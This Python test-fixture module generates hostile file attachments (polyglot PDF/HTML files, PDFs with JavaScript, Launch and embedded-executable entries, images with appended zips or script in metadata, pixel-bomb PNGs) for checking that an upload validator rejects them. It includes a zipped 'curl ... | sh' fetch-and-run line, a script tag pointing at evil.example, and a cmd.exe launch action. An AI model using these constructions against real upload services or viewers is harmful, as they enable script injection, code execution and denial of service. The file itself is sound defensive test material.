"""Attachments as an attacker makes them: polyglots (valid as two formats at once), payloads hidden in valid
structures, truncated and corrupt files, and images that declare more pixels than a server can decode.
Each builder takes the real PDF/PNG/JPEG of the tests and returns bytes."""
import io
import struct
import zipfile
import zlib

import pypdf
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

SCRIPT = b"<html><body><script>alert(document.domain)</script></body></html>"


def jpeg_bytes():
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (180, 40, 40)).save(buffer, "JPEG", quality=80)
    return buffer.getvalue()


def zip_bytes():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:  # what a zip reader opens from the end
        archive.writestr("run.sh", b"#!/bin/sh\ncurl http://127.0.0.1:9/ | sh\n" * 20)
    return buffer.getvalue()


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_chunk_before_end(png, kind, data):
    return png[:-12] + png_chunk(kind, data) + png[-12:]  # IEND is the last 12 bytes


def png_declaring(width, height):
    """A valid PNG structure (CRCs right) whose header declares width × height pixels; a few bytes of data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
            + png_chunk(b"IEND", b""))


def pdf_with(root_entries=(), attachment=None):
    """A one-page PDF written by pypdf, with extra catalog entries or an embedded file."""
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    for key, value in root_entries:
        writer._root_object[NameObject(key)] = value
    if attachment:
        writer.add_attachment(*attachment)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def javascript_action():
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(
        "app.launchURL('http://127.0.0.1:9/', true)")})


def hostile(pdf, png):
    """{case: (file name, bytes, what the refusal says)} for every kind of hostile attachment."""
    jpeg = jpeg_bytes()
    first_line = pdf.index(b"\n") + 1
    idat = png.index(b"IDAT") + 8
    return {
        "pdf that is also html": ("constat.pdf", pdf[:first_line] + b"%" + SCRIPT + b"\n" + pdf[first_line:],
                                  "HTML or script markup"),
        "html before the pdf header": ("constat.pdf", SCRIPT + b"\n" + pdf, "not an accepted type"),
        "pdf with javascript": ("constat.pdf", pdf_with([("/OpenAction", javascript_action())]), "active content"),
        "pdf with an embedded file": ("constat.pdf", pdf_with(attachment=("lisez-moi.exe", b"MZ" + b"\0" * 64)),
                                      "active content"),
        "pdf with a launch action": ("constat.pdf", pdf_with([("/OpenAction", DictionaryObject({
            NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}))]),
            "active content"),
        "pdf with data after its end": ("constat.pdf", pdf + b"\nsurprise", "data follows the end of the PDF"),
        "pdf with a zip appended": ("constat.pdf", pdf + zip_bytes(), "zip archive"),
        "truncated pdf": ("constat.pdf", pdf[: len(pdf) // 2], "PDF"),
        "pdf with a broken cross-reference": ("constat.pdf", pdf.replace(b"startxref", b"startxreF"),
                                              "does not parse"),
        "png with html appended": ("photo.png", png + SCRIPT, "HTML or script markup"),
        "png with a zip appended": ("photo.png", png + zip_bytes(), "zip archive"),
        "png with bytes after IEND": ("photo.png", png + b"\x01\x02trailer", "follow the end of the PNG"),
        "png with script in a text chunk": ("photo.png", png_with_chunk_before_end(
            png, b"tEXt", b"Comment\x00<script src=//evil.example/x.js></script>"), "HTML or script markup"),
        "png with a corrupt chunk": ("photo.png", png[:idat] + bytes([png[idat] ^ 0xFF]) + png[idat + 1:],
                                     "truncated or corrupt"),
        "truncated png": ("photo.png", png[:-20], "truncated"),
        "png declaring 400 megapixels": ("photo.png", png_declaring(20_000, 20_000), "pixels"),
        "png that does not decode": ("photo.png", png_declaring(64, 64), "does not decode"),
        "jpeg with a zip appended": ("photo.jpg", jpeg + zip_bytes(), "zip archive"),
        "jpeg with bytes after its end": ("photo.jpg", jpeg + b"MORE-DATA", "follow the end of the JPEG"),
        "jpeg with html in a comment": ("photo.jpg", jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2)
                                        + SCRIPT + jpeg[2:], "HTML or script markup"),
        "truncated jpeg": ("photo.jpg", jpeg[: len(jpeg) // 2], "truncated"),
        "svg named png": ("photo.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
                          "not an accepted type"),
        "html named pdf": ("constat.pdf", SCRIPT, "not an accepted type"),
        "gif": ("photo.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "not an accepted type"),
    }
